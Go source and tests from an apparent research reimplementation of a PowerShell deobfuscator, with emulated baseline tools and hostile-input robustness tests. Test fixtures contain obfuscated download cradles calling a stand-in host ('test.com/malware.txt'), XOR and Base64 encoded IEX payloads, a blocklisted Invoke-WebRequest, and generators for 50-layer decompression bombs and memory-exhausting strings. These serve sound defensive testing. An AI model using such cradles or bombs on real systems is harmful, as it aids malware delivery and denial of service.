		if cur == prev {
			break
		}
	}
	return cur, nil
}
