// Package baselines reimplements the four comparison deobfuscators the
// paper evaluates against (§IV): PSDecode, PowerDrive and PowerDecode
// (regular expressions plus the overriding-function technique) and
// Li et al. (PipelineAst direct execution with context-free
// replacement). Each emulation reproduces the design — and therefore
// the characteristic failure modes — the paper attributes to the
// original tool:
//
//   - regex rules match script pieces while ignoring syntax,
//   - overriding functions only see payloads that reach
//     Invoke-Expression during execution,
//   - direct execution lacks variable context,
//   - replace-all substitution ignores differing contexts, and
//   - executing unrelated commands (sleeps, network) costs time.
package baselines

import (
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/psinterp"
)

// Tool is a deobfuscator under evaluation.
type Tool interface {
	// Name identifies the tool in experiment output.
	Name() string
	// Deobfuscate returns the tool's final-layer output. Tools return
	// the input unchanged when they cannot do anything (callers decide
	// whether that counts as an effective result, as in Table IV).
	Deobfuscate(src string) (string, error)
}

// execHost simulates the cost of the baselines' direct execution: real
// network commands and sleeps take time. Latency is wall-clock but
// capped so experiments stay fast.
type execHost struct {
	psinterp.DenyHost
	netLatency   time.Duration
	sleepCap     time.Duration
	totalElapsed time.Duration
}

func (h *execHost) charge(d time.Duration) {
	h.totalElapsed += d
	time.Sleep(d)
}

// DownloadString simulates a blocking network fetch.
func (h *execHost) DownloadString(string) (string, error) {
	h.charge(h.netLatency)
	return "", psinterp.ErrSideEffect
}

// DownloadData simulates a blocking network fetch.
func (h *execHost) DownloadData(string) (psinterp.Bytes, error) {
	h.charge(h.netLatency)
	return nil, psinterp.ErrSideEffect
}

// DownloadFile simulates a blocking download.
func (h *execHost) DownloadFile(string, string) error {
	h.charge(h.netLatency)
	return psinterp.ErrSideEffect
}

// WebRequest simulates a blocking request.
func (h *execHost) WebRequest(string, string) (string, error) {
	h.charge(h.netLatency)
	return "", psinterp.ErrSideEffect
}

// TCPConnect simulates a blocking connect (including timeouts on dead
// C2 hosts).
func (h *execHost) TCPConnect(string, int64) error {
	h.charge(h.netLatency)
	return psinterp.ErrSideEffect
}

// DNSResolve simulates a blocking lookup.
func (h *execHost) DNSResolve(string) error {
	h.charge(h.netLatency / 2)
	return nil
}

// Sleep honours Start-Sleep up to the cap — the paper's explanation for
// the baselines' heavy-tailed runtimes (§IV-C2).
func (h *execHost) Sleep(seconds float64) {
	d := time.Duration(seconds * float64(time.Second))
	if d > h.sleepCap {
		d = h.sleepCap
	}
	if d > 0 {
		h.charge(d)
	}
}

// Latency models the cost of the baselines' direct execution. The
// defaults approximate real tool behaviour (network round trips,
// honoured sleeps); experiments may scale them down for quick runs.
type Latency struct {
	// Net is charged per network call the executed sample makes.
	Net time.Duration
	// SleepCap bounds how long an executed Start-Sleep may stall.
	SleepCap time.Duration
}

var simLatency = Latency{Net: 120 * time.Millisecond, SleepCap: 2 * time.Second}

// SetLatency overrides the simulated execution latency and returns the
// previous setting (restore it with a deferred call in tests).
func SetLatency(l Latency) Latency {
	prev := simLatency
	simLatency = l
	return prev
}

// defaultExecHost returns the simulated execution host shared by the
// overriding-function baselines.
func defaultExecHost() *execHost {
	return &execHost{netLatency: simLatency.Net, sleepCap: simLatency.SleepCap}
}
