package baselines

import (
	"strings"
	"testing"
	"time"
)

func quickLatency(t *testing.T) {
	t.Helper()
	prev := SetLatency(Latency{Net: time.Millisecond, SleepCap: time.Millisecond})
	t.Cleanup(func() { SetLatency(prev) })
}

// Characterization tests: each baseline must exhibit the strengths AND
// the weaknesses the paper attributes to the original tool.

func TestPSDecodeCharacter(t *testing.T) {
	quickLatency(t)
	tool := PSDecode{}
	// Strength: backtick removal.
	out, _ := tool.Deobfuscate("w`rite-ho`st hi")
	if !strings.Contains(out, "write-host hi") {
		t.Errorf("ticks not removed: %q", out)
	}
	// Strength: one literal-IEX layer via overriding.
	out, _ = tool.Deobfuscate("IEX 'write-host fromlayer'")
	if !strings.Contains(out, "write-host fromlayer") {
		t.Errorf("literal IEX layer missed: %q", out)
	}
	// Weakness: concat untouched.
	out, _ = tool.Deobfuscate("$x = 'a'+'b'")
	if !strings.Contains(out, "'a'+'b'") {
		t.Errorf("psdecode unexpectedly folded concat: %q", out)
	}
	// Weakness: dynamic IEX spelling escapes the override.
	out, _ = tool.Deobfuscate("&('ie'+'x') 'write-host hidden'")
	if strings.Contains(out, "write-host hidden") && !strings.Contains(out, "&(") {
		t.Errorf("dynamic IEX should not be captured: %q", out)
	}
}

func TestPowerDriveCharacter(t *testing.T) {
	quickLatency(t)
	tool := PowerDrive{}
	// Strengths: ticks + concat + -enc decoding.
	out, _ := tool.Deobfuscate("$x = 'a'+'b'+'c'")
	if !strings.Contains(out, "'abc'") {
		t.Errorf("concat not folded: %q", out)
	}
	out, _ = tool.Deobfuscate("powershell -enc dwByAGkAdABlAC0AaABvAHMAdAAgAGgAaQA=")
	if !strings.Contains(out, "write-host hi") {
		t.Errorf("-enc not decoded: %q", out)
	}
	// Weakness: multi-line scripts are flattened to one line (the
	// syntax-breaking behaviour from Fig. 8(b)).
	out, _ = tool.Deobfuscate("write-host a\nwrite-host b")
	if strings.Contains(out, "\n") {
		t.Errorf("multi-line output not flattened: %q", out)
	}
}

func TestPowerDecodeCharacter(t *testing.T) {
	quickLatency(t)
	tool := PowerDecode{}
	// Strengths: concat + replace rules and multi-layer literal IEX.
	out, _ := tool.Deobfuscate("$x = ('axbxc').Replace('x','-')")
	if !strings.Contains(out, "'a-b-c'") {
		t.Errorf("replace rule failed: %q", out)
	}
	out, _ = tool.Deobfuscate(`IEX 'IEX ''write-host deep'''`)
	if !strings.Contains(out, "write-host deep") {
		t.Errorf("multi-layer literal IEX failed: %q", out)
	}
	// Base64 GetString form.
	out, _ = tool.Deobfuscate("IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwByAGkAdABlAC0AaABvAHMAdAAgAGgAaQA=')))")
	if !strings.Contains(out, "write-host hi") {
		t.Errorf("base64 rule failed: %q", out)
	}
}

func TestLiEtAlCharacter(t *testing.T) {
	quickLatency(t)
	tool := LiEtAl{}
	// Strength: direct execution of a statement-level pipeline.
	out, _ := tool.Deobfuscate("'a'+'b'+'c'")
	if !strings.Contains(out, "abc") {
		t.Errorf("pipeline execution failed: %q", out)
	}
	// Weakness: no variable context.
	out, _ = tool.Deobfuscate("$h = 'ht'\n$h + 'tp://x.test'")
	if strings.Contains(out, "http://x.test") {
		t.Errorf("li should lack variable context: %q", out)
	}
	// Weakness: assignment RHS not processed.
	out, _ = tool.Deobfuscate("$x = 'a'+'b'")
	if strings.Contains(out, `"ab"`) {
		t.Errorf("li should not process assignments: %q", out)
	}
	// Weakness: New-Object replaced by the result type name (the
	// semantics-breaking Fig. 8(c) behaviour).
	out, _ = tool.Deobfuscate("New-Object Net.WebClient")
	if !strings.Contains(out, "System.Net.WebClient") {
		t.Errorf("new-object replacement missing: %q", out)
	}
	// Weakness: context-free replace-all hits every occurrence.
	out, _ = tool.Deobfuscate("'x'+'y'\nwrite-host \"literal: 'x'+'y'\"")
	if strings.Count(out, "xy") < 2 {
		t.Errorf("replace-all behaviour missing: %q", out)
	}
}

func TestInvokeDeobfuscationTool(t *testing.T) {
	tool := InvokeDeobfuscation{}
	if tool.Name() != "Our tool" {
		t.Errorf("name = %q", tool.Name())
	}
	out, err := tool.Deobfuscate("i`ex ('write-ho'+'st ours')")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(strings.ToLower(out), "write-host ours") {
		t.Errorf("out = %q", out)
	}
}

func TestAllToolsOrder(t *testing.T) {
	names := make([]string, 0)
	for _, tool := range AllTools() {
		names = append(names, tool.Name())
	}
	want := []string{"PSDecode", "PowerDrive", "PowerDecode", "Li et al.", "Our tool"}
	if len(names) != len(want) {
		t.Fatalf("tools = %v", names)
	}
	for i := range want {
		if names[i] != want[i] {
			t.Errorf("tool %d = %q, want %q", i, names[i], want[i])
		}
	}
}

func TestExecHostChargesLatency(t *testing.T) {
	prev := SetLatency(Latency{Net: 5 * time.Millisecond, SleepCap: 10 * time.Millisecond})
	defer SetLatency(prev)
	start := time.Now()
	tool := PSDecode{}
	// The sample performs network I/O during execution, which costs the
	// overriding tools wall-clock time (Fig. 6's mechanism).
	_, _ = tool.Deobfuscate("(New-Object Net.WebClient).DownloadString('http://slow.test/')")
	if elapsed := time.Since(start); elapsed < 4*time.Millisecond {
		t.Errorf("no latency charged: %v", elapsed)
	}
}
