package core

import (
	"strings"
	"testing"
)

const stagedLoader = `function decode($s) { -join ($s -split ',' | ForEach-Object { [char]([int]$_ -bxor 7) }) }
$stage = decode('112,117,110,115,98,42,111,104,116,115,39,111,110')
Invoke-Expression $stage`

// TestFunctionTracingExtension: with the §V-C extension on, the pure
// decoder function is traced and the staged payload is recovered; off
// (the paper's configuration) it is left intact.
func TestFunctionTracingExtension(t *testing.T) {
	off, err := New(Options{}).Deobfuscate(stagedLoader)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(strings.ToLower(off.Script), "decode(") {
		t.Errorf("default engine folded the function call: %q", off.Script)
	}
	on, err := New(Options{FunctionTracing: true}).Deobfuscate(stagedLoader)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(strings.ToLower(on.Script), "write-host") {
		t.Errorf("extension did not recover the staged payload: %q", on.Script)
	}
}

// TestFunctionTracingRejectsImpureFunctions: functions with side
// effects or free variables stay untraced even with the extension on.
func TestFunctionTracingRejectsImpureFunctions(t *testing.T) {
	cases := []struct{ src, keep string }{
		// Free variable read: the call must survive with its argument.
		{"function f($a) { $a + $outer }\n$x = f('v')\nwrite-host $x", "('v')"},
		// Blocklisted command inside.
		{"function f($a) { Invoke-WebRequest $a }\n$x = f('http://x.test')\nwrite-host $x", "('http://x.test')"},
		// Dynamic command name.
		{"function f($a) { & $a 'arg' }\n$x = f('cmd')\nwrite-host $x", "('cmd')"},
	}
	d := New(Options{FunctionTracing: true})
	for _, tc := range cases {
		res, err := d.Deobfuscate(tc.src)
		if err != nil {
			t.Fatalf("%q: %v", tc.src, err)
		}
		if !strings.Contains(res.Script, tc.keep) {
			t.Errorf("impure function call folded: %q -> %q", tc.src, res.Script)
		}
	}
}

// TestFunctionTracingLocalVariablesAllowed: locals assigned inside the
// body do not disqualify purity.
func TestFunctionTracingLocalVariablesAllowed(t *testing.T) {
	src := `function rev($s) { $tmp = $s.ToCharArray(); [array]::Reverse($tmp); -join $tmp }
$u = rev('1sp.tset//:ptth')
write-host $u`
	res, err := New(Options{FunctionTracing: true}).Deobfuscate(src)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(res.Script, "'http://test.ps1'") {
		t.Errorf("local-variable decoder not traced: %q", res.Script)
	}
}
