package core

import (
	"strings"
	"testing"
)

func deob(t *testing.T, src string) string {
	t.Helper()
	res, err := New(Options{}).Deobfuscate(src)
	if err != nil {
		t.Fatalf("Deobfuscate(%q): %v", src, err)
	}
	return res.Script
}

func deobWith(t *testing.T, src string, opts Options) string {
	t.Helper()
	res, err := New(opts).Deobfuscate(src)
	if err != nil {
		t.Fatalf("Deobfuscate(%q): %v", src, err)
	}
	return res.Script
}

func TestTokenPhase(t *testing.T) {
	tests := []struct{ src, want string }{
		// Alias expansion.
		{"iex 'x'", "Invoke-Expression"},
		{"gci", "Get-ChildItem"},
		// Random case.
		{"wRiTe-HoSt hi", "Write-Host hi"},
		{"[TeXT.eNcOdINg]::UnIcOdE", "[text.encoding]::unicode"},
		// Ticking.
		{"w`rIt`e-hO`sT hi", "Write-Host hi"},
		// Keyword case.
		{"IF (1) { 2 }", "if (1)"},
		// Parameter case.
		{"powershell -NoP -W hidden", "-nop -w hidden"},
		// Type-name argument case.
		{"New-Object NET.WebCLIENT", "New-Object net.webclient"},
	}
	for _, tt := range tests {
		got := deobWith(t, tt.src, Options{DisableASTPhase: true, DisableRename: true, DisableReformat: true})
		if !strings.Contains(got, tt.want) {
			t.Errorf("tokenPhase(%q) = %q, want substring %q", tt.src, got, tt.want)
		}
	}
}

func TestTokenPhasePreservesStrings(t *testing.T) {
	src := "write-host 'MiXeD CaSe DATA' \"BASE64==Data\""
	got := deobWith(t, src, Options{DisableASTPhase: true, DisableRename: true, DisableReformat: true})
	if !strings.Contains(got, "'MiXeD CaSe DATA'") {
		t.Errorf("string literal mutated: %q", got)
	}
	if !strings.Contains(got, "BASE64==Data") {
		t.Errorf("double-quoted data mutated: %q", got)
	}
}

func TestVariableTracingScope(t *testing.T) {
	// A variable assigned inside a conditional must not be inlined
	// (Algorithm 1 lines 9-11).
	src := `if ($x) { $a = 'maybe' }
write-host $a`
	got := deob(t, src)
	if strings.Contains(got, "write-host 'maybe'") {
		t.Errorf("conditional assignment wrongly inlined: %q", got)
	}
	// A variable assigned in a loop must not be folded.
	src2 := `foreach ($i in 1..3) { $acc += $i }
write-host $acc`
	got2 := deob(t, src2)
	if strings.Contains(got2, "write-host 6") || strings.Contains(got2, "write-host '6'") {
		t.Errorf("loop accumulator wrongly folded: %q", got2)
	}
}

func TestVariableTracingReassignment(t *testing.T) {
	// The trace must honour the latest assignment at each use site.
	src := `$a = 'first'
$b = $a + '!'
$a = 'second'
$c = $a + '?'
write-host $b $c`
	got := deob(t, src)
	if !strings.Contains(got, "'first!'") || !strings.Contains(got, "'second?'") {
		t.Errorf("reassignment tracing wrong: %q", got)
	}
}

func TestVariableNotInlinedWhenUnknownRHS(t *testing.T) {
	src := `$a = Get-Date
write-host $a`
	got := deob(t, src)
	if !strings.Contains(got, "$") {
		t.Errorf("unknown-valued variable disappeared: %q", got)
	}
}

func TestBlocklistPreventsExecution(t *testing.T) {
	// The recoverable piece contains a blocklisted command; it must be
	// kept verbatim instead of executed/replaced.
	src := "$x = (Invoke-WebRequest 'http://x.test').Content + 'y'"
	got := deob(t, src)
	if !strings.Contains(strings.ToLower(got), "invoke-webrequest") {
		t.Errorf("blocklisted piece was replaced: %q", got)
	}
}

func TestFunctionBodiesAreConservative(t *testing.T) {
	// Globals must not be inlined inside function bodies (parameters
	// may shadow them at run time).
	src := `$a = 'global'
function f($a) { write-host $a }
f 'param'`
	got := deob(t, src)
	if strings.Contains(got, "write-host 'global'") {
		t.Errorf("global inlined into function body: %q", got)
	}
}

func TestMultiLayerFixpoint(t *testing.T) {
	// Three nested IEX layers.
	inner := "write-host deep"
	l1 := "IEX '" + inner + "'"
	l2 := `IEX "` + strings.ReplaceAll(l1, `'`, `''`) + `"`
	_ = l2
	src := "IEX ('I' + \"EX 'write-host deep'\")"
	got := deob(t, src)
	if !strings.Contains(strings.ToLower(got), "write-host deep") {
		t.Errorf("nested layers not unwrapped: %q", got)
	}
	if strings.Contains(strings.ToLower(got), "invoke-expression") {
		t.Errorf("IEX残 left behind: %q", got)
	}
}

func TestUnwrapPositions(t *testing.T) {
	forms := []string{
		"IEX 'write-host hi'",
		"'write-host hi' | IEX",
		"&('ie'+'x') 'write-host hi'",
		".('iex') 'write-host hi'",
		"$r = IEX 'write-host hi'",
		"IEX 'write-host hi' | out-null",
		"powershell -e dwByAGkAdABlAC0AaABvAHMAdAAgAGgAaQA=",
		"powershell -Command 'write-host hi'",
	}
	for _, src := range forms {
		got := deob(t, src)
		if !strings.Contains(strings.ToLower(got), "write-host hi") {
			t.Errorf("unwrap(%q) = %q", src, got)
		}
	}
}

func TestRenamePhase(t *testing.T) {
	src := "$xkq7z = 'v'\n$bwtr9 = $xkq7z\nwrite-host $bwtr9"
	got := deob(t, src)
	if !strings.Contains(got, "$var0") {
		t.Errorf("random names not renamed: %q", got)
	}
	// Readable names stay.
	src2 := "$downloadurl = 'v'\nwrite-host $downloadurl"
	got2 := deob(t, src2)
	if strings.Contains(got2, "$var0") {
		t.Errorf("readable names renamed: %q", got2)
	}
}

func TestRenameFunctions(t *testing.T) {
	src := "function zzqxk7 { 'x' }\nzzqxk7"
	got := deob(t, src)
	if !strings.Contains(got, "func0") {
		t.Errorf("function not renamed: %q", got)
	}
}

func TestReformatPhase(t *testing.T) {
	src := "write-host    hello\n\n\n\nwrite-host     'keep  inner'"
	got := deob(t, src)
	if strings.Contains(got, "host    hello") {
		t.Errorf("whitespace not collapsed: %q", got)
	}
	if !strings.Contains(got, "'keep  inner'") {
		t.Errorf("string spacing mutated: %q", got)
	}
	if strings.Contains(got, "\n\n\n") {
		t.Errorf("blank lines not collapsed: %q", got)
	}
}

func TestReformatIndentation(t *testing.T) {
	src := "if (1) {\nwrite-host a\nif (2) {\nwrite-host b\n}\n}"
	got := deob(t, src)
	if !strings.Contains(got, "    Write-Host a") {
		t.Errorf("indentation missing:\n%s", got)
	}
	if !strings.Contains(got, "        Write-Host b") {
		t.Errorf("nested indentation missing:\n%s", got)
	}
}

func TestInvalidInputRejected(t *testing.T) {
	if _, err := New(Options{}).Deobfuscate("if (1) {"); err == nil {
		t.Error("expected ErrInvalidSyntax")
	}
}

// TestOutputAlwaysParses: for any valid input the output must parse
// (the paper's per-step syntax check).
func TestOutputAlwaysParses(t *testing.T) {
	srcs := []string{
		"write-host hello",
		"IEX ('a'+'b')",
		"$a = 'x'; if ($a) { $a }",
		"( '1,2' -split ',' | % { [char]([int]$_+64) }) -join ''",
		"try { iwr 'http://x.test' } catch { 'e' }",
	}
	d := New(Options{})
	for _, src := range srcs {
		res, err := d.Deobfuscate(src)
		if err != nil {
			t.Fatalf("Deobfuscate(%q): %v", src, err)
		}
		if perr := psParseErr(res.Script); perr != nil {
			t.Errorf("output of %q does not parse: %v\n%s", src, perr, res.Script)
		}
	}
}

// TestDeobfuscateIdempotent: running the engine twice must be a
// fixpoint.
func TestDeobfuscateIdempotent(t *testing.T) {
	srcs := []string{
		"IeX ((\"{1}{0}\" -f 'llo', \"write-host he\"))",
		"$a = 'con'+'cat'\nwrite-host $a",
		"powershell -e dwByAGkAdABlAC0AaABvAHMAdAAgAGgAaQA=",
	}
	d := New(Options{})
	for _, src := range srcs {
		first, err := d.Deobfuscate(src)
		if err != nil {
			t.Fatal(err)
		}
		second, err := d.Deobfuscate(first.Script)
		if err != nil {
			t.Fatalf("second pass on %q: %v", first.Script, err)
		}
		if second.Script != first.Script {
			t.Errorf("not idempotent for %q:\nfirst  %q\nsecond %q", src, first.Script, second.Script)
		}
	}
}

func TestStatsPopulated(t *testing.T) {
	res, err := New(Options{}).Deobfuscate("i`ex ('wri'+'te-host hi')")
	if err != nil {
		t.Fatal(err)
	}
	s := res.Stats
	if s.TokensNormalized == 0 || s.PiecesRecovered == 0 || s.LayersUnwrapped == 0 {
		t.Errorf("stats incomplete: %+v", s)
	}
	if s.Duration <= 0 {
		t.Error("duration missing")
	}
}

func TestAblationVariantsRun(t *testing.T) {
	src := "$k = 'se'+'cret'\nwrite-host $k"
	full := deob(t, src)
	noTrace := deobWith(t, src, Options{DisableVariableTracing: true})
	if !strings.Contains(full, "Write-Host 'secret'") {
		t.Errorf("full engine missed inline: %q", full)
	}
	if strings.Contains(noTrace, "Host 'secret'") {
		t.Errorf("tracing-disabled engine inlined anyway: %q", noTrace)
	}
}
