package core

import (
	"strings"
	"testing"
)

func TestDeobfuscateSmoke(t *testing.T) {
	cases := []struct {
		name string
		src  string
		want []string // substrings expected in output
	}{
		{
			name: "L1 ticking and alias",
			src:  "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrIng('https://test.com/malware.txt')",
			want: []string{"New-Object", "net.webclient", "downloadstring"},
		},
		{
			name: "reorder format",
			src:  `IeX (("{2}{0}{1}" -f 'ost h', 'ello', 'write-h'))`,
			want: []string{"Write-Host hello"},
		},
		{
			name: "concat",
			src:  `$url = 'http'+'s://te'+'st.com/malware.txt'`,
			want: []string{"'https://test.com/malware.txt'"},
		},
		{
			name: "variable tracing",
			src: `$a = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'
$b = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='
$c = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($a + $b))
(New-Object Net.WebClient).downloadstring($c)`,
			want: []string{"'https://test.com/malware.txt'", "downloadstring('https://test.com/malware.txt')"},
		},
		{
			name: "bxor pipeline invoked via comspec",
			src:  `( '60,57,34,63,46,102,35,36,56,63,107,35,46,39,39,36'-SPLit ',' | fOrEAch-ObJECt{ [cHAR]($_ -BxoR'0x4B' ) })-jOiN'' |& ( $Env:coMSpEC[4,24,25]-JOiN'')`,
			want: []string{"write-host"},
		},
		{
			name: "encodedcommand",
			src:  "powershell -NoP -e dwByAGkAdABlAC0AaABvAHMAdAAgAGgAZQBsAGwAbwA=",
			want: []string{"write-host hello"},
		},
		{
			name: "multilayer iex",
			src:  `IEX ('IE' + 'X' + ' "write-host hello"')`,
			want: []string{"write-host hello"},
		},
		{
			name: "pipe to iex",
			src:  `'write-host hello' | IEX`,
			want: []string{"write-host hello"},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			d := New(Options{})
			res, err := d.Deobfuscate(tc.src)
			if err != nil {
				t.Fatalf("Deobfuscate: %v", err)
			}
			t.Logf("IN : %s\nOUT: %s\nstats: %+v", tc.src, res.Script, res.Stats)
			for _, want := range tc.want {
				if !strings.Contains(strings.ToLower(res.Script), strings.ToLower(want)) {
					t.Errorf("output missing %q", want)
				}
			}
		})
	}
}
