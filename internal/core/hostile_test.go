package core

import (
	"bytes"
	"compress/flate"
	"context"
	"encoding/base64"
	"errors"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/invoke-deobfuscation/invokedeob/internal/frontend"
)

// encodeCommand renders script as a powershell -EncodedCommand layer
// (UTF-16LE + Base64, the -EncodedCommand contract).
func encodeCommand(script string) string {
	u16 := utf16.Encode([]rune(script))
	raw := make([]byte, 0, len(u16)*2)
	for _, u := range u16 {
		raw = append(raw, byte(u), byte(u>>8))
	}
	return "powershell -EncodedCommand " + base64.StdEncoding.EncodeToString(raw)
}

func deflateB64(s string) string {
	var buf bytes.Buffer
	w, _ := flate.NewWriter(&buf, flate.BestCompression)
	w.Write([]byte(s))
	w.Close()
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

// deflateWrap renders script as one iex(deflate+Base64) layer — the
// PSDecode-style zip-bomb construction whose per-layer size stays
// nearly constant (compression cancels the Base64 expansion), so a
// genuine 50-layer chain fits in a few KiB.
func deflateWrap(script string) string {
	return "iex ((New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('" +
		deflateB64(script) + "'))),'Decompress')))).ReadToEnd())"
}

// layerBomb builds a 50-layer unwrap chain: two -EncodedCommand layers
// around the payload (the size-exploding kind), then deflate layers up
// to 50 total.
func layerBomb() string {
	s := "write-host bomb"
	for i := 0; i < 2; i++ {
		s = encodeCommand(s)
	}
	for i := 2; i < 50; i++ {
		s = deflateWrap(s)
	}
	return s
}

// taxonomyOK reports whether err is nil or a typed envelope error —
// the only outcomes a hostile input may produce (never a panic, never
// an untyped hang-then-error).
func taxonomyOK(err error) bool {
	if err == nil {
		return true
	}
	for _, want := range []error{ErrDeadline, ErrCanceled, ErrMemBudget,
		ErrParseDepth, ErrOutputBudget, ErrPanic, ErrInvalidSyntax} {
		if errors.Is(err, want) {
			return true
		}
	}
	return false
}

// TestHostileCorpus drives the deobfuscator over adversarial inputs
// under a wall-clock deadline and asserts the envelope contract: a
// result or typed error within 2x the deadline, and no panics (a panic
// would fail the test run outright).
func TestHostileCorpus(t *testing.T) {
	const deadline = 250 * time.Millisecond
	cases := []struct {
		name string
		src  string
		opts Options
		// wantTimeout requires the run to be cut off by the deadline.
		wantTimeout bool
	}{
		{
			name: "string multiplication bomb",
			src:  "$x = 'a'*100000000; $x",
		},
		{
			name: "5k-deep nested parens",
			src:  strings.Repeat("(", 5000) + "1" + strings.Repeat(")", 5000),
		},
		{
			name: "50-layer encoded-command bomb",
			src:  layerBomb(),
		},
		{
			name: "tiny output budget on layered input",
			src:  layerBomb(),
			opts: Options{MaxOutputBytes: 256},
		},
		{
			name:        "infinite loop piece",
			src:         "$v = $(while($true){1}); $v",
			opts:        Options{StepBudget: 1 << 40},
			wantTimeout: true,
		},
		{
			name: "exponential concat piece",
			src:  "$s = $('ha'; foreach ($i in 1..64) {}); $x = 'a'*99999999 + 'b'",
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(context.Background(), deadline)
			defer cancel()
			start := time.Now()
			res, err := New(tc.opts).DeobfuscateContext(ctx, tc.src)
			elapsed := time.Since(start)
			if elapsed > envelopeSlack*deadline {
				t.Fatalf("took %v, over %dx the %v deadline",
					elapsed, envelopeSlack, deadline)
			}
			if !taxonomyOK(err) {
				t.Fatalf("error outside taxonomy: %v", err)
			}
			if err == nil && res == nil {
				t.Fatal("nil result with nil error")
			}
			if tc.wantTimeout {
				if !errors.Is(err, ErrDeadline) {
					t.Fatalf("want ErrDeadline, got %v", err)
				}
				if res == nil || !res.Stats.TimedOut {
					t.Fatalf("want partial result with Stats.TimedOut, got %+v", res)
				}
				if res.Stats.PiecesTimedOut == 0 {
					t.Error("want PiecesTimedOut > 0")
				}
			}
		})
	}
}

// TestOutputBudgetTyped asserts the unwrap output cap surfaces as
// ErrOutputBudget with partial progress.
func TestOutputBudgetTyped(t *testing.T) {
	src := layerBomb()
	res, err := New(Options{MaxOutputBytes: 64}).
		DeobfuscateContext(context.Background(), src)
	if !errors.Is(err, ErrOutputBudget) {
		t.Fatalf("want ErrOutputBudget, got %v", err)
	}
	if res == nil || !res.Stats.TimedOut {
		t.Fatalf("want partial result with Stats.TimedOut, got %+v", res)
	}
	if res.Script == "" {
		t.Error("partial result lost the script")
	}
}

// TestOutputBudgetChargesGrowthOnly is a regression test for the
// double-charging bug: the fixpoint loops used to charge the FULL layer
// size against MaxOutputBytes on every changed iteration, so a large
// legitimate script spuriously tripped ErrOutputBudget despite no
// decompression-bomb expansion. Only per-iteration growth may be
// charged; full charges are reserved for deobPayload's nested
// unwrapping where bomb chains actually expand.
func TestOutputBudgetChargesGrowthOnly(t *testing.T) {
	var sb strings.Builder
	for i := 0; i < 5000; i++ {
		sb.WriteString("$keep")
		sb.WriteString(string(rune('a' + i%26)))
		sb.WriteString(" = 1\n")
	}
	// One alias so the token phase changes the layer (growth ~10 bytes).
	sb.WriteString("gci .\n")
	src := sb.String()
	// Budget far below the script size but far above the growth.
	res, err := New(Options{MaxOutputBytes: 4096}).
		DeobfuscateContext(context.Background(), src)
	if err != nil {
		t.Fatalf("large benign script tripped the output budget: %v", err)
	}
	if res.Stats.TimedOut {
		t.Fatal("Stats.TimedOut set on a benign run")
	}
	if !strings.Contains(res.Script, "Get-ChildItem") {
		t.Errorf("alias not expanded: %q", res.Script[len(res.Script)-64:])
	}
}

// TestOutputBudgetNoRefundOnShrink asserts a shrinking layer does not
// refund the output budget (growth-only charging must never mint
// headroom for a later bomb).
func TestOutputBudgetNoRefundOnShrink(t *testing.T) {
	env := frontend.NewEnvelope(context.Background(), 100)
	if err := env.ChargeOutput(-1 << 30); err != nil {
		t.Fatalf("negative charge must be free, got %v", err)
	}
	if err := env.ChargeOutput(100); err != nil {
		t.Fatalf("charge within budget failed: %v", err)
	}
	if err := env.ChargeOutput(1); !errors.Is(err, ErrOutputBudget) {
		t.Fatalf("budget refunded by shrink: %v", err)
	}
}

// TestCanceledContext asserts pre-canceled contexts are rejected with
// ErrCanceled before any work.
func TestCanceledContext(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := New(Options{}).DeobfuscateContext(ctx, "write-host hi")
	if !errors.Is(err, ErrCanceled) {
		t.Fatalf("want ErrCanceled, got %v", err)
	}
}

// TestParseDepthSurfaces asserts pathological nesting is rejected as
// both ErrInvalidSyntax (it never parsed) and ErrParseDepth (why).
func TestParseDepthSurfaces(t *testing.T) {
	src := strings.Repeat("(", 120_000) + "1" + strings.Repeat(")", 120_000)
	_, err := New(Options{}).Deobfuscate(src)
	if !errors.Is(err, ErrInvalidSyntax) {
		t.Fatalf("want ErrInvalidSyntax, got %v", err)
	}
	if !errors.Is(err, ErrParseDepth) {
		t.Fatalf("want ErrParseDepth in chain, got %v", err)
	}
}

// TestContextFreeWrapperUnchanged asserts Deobfuscate still works as
// the context-free entry point.
func TestContextFreeWrapperUnchanged(t *testing.T) {
	res, err := New(Options{}).Deobfuscate("iex ('write-host '+'hi')")
	if err != nil {
		t.Fatalf("Deobfuscate: %v", err)
	}
	if !strings.Contains(res.Script, "Write-Host") {
		t.Errorf("unexpected output: %q", res.Script)
	}
	if res.Stats.TimedOut {
		t.Error("TimedOut set on an unbounded run")
	}
}
