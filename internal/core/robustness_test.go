package core

import (
	"strings"
	"testing"
	"testing/quick"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/corpus"
)

// TestDeepNesting: deeply nested parentheses and concatenations must
// neither crash nor hang.
func TestDeepNesting(t *testing.T) {
	expr := "'x'"
	for i := 0; i < 40; i++ {
		expr = "(" + expr + "+'y')"
	}
	d := New(Options{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		res, err := d.Deobfuscate("write-host " + expr)
		if err != nil {
			t.Errorf("deep nesting: %v", err)
			return
		}
		if !strings.Contains(res.Script, "xyyyy") {
			t.Errorf("deep concat not recovered: %.120s", res.Script)
		}
	}()
	select {
	case <-done:
	case <-time.After(30 * time.Second):
		t.Fatal("deep nesting hung")
	}
}

// TestHugeConcatChain: a thousand-piece concat folds without blowing
// budgets.
func TestHugeConcatChain(t *testing.T) {
	parts := make([]string, 400)
	for i := range parts {
		parts[i] = "'ab'"
	}
	src := "$s = " + strings.Join(parts, "+")
	d := New(Options{})
	res, err := d.Deobfuscate(src)
	if err != nil {
		t.Fatal(err)
	}
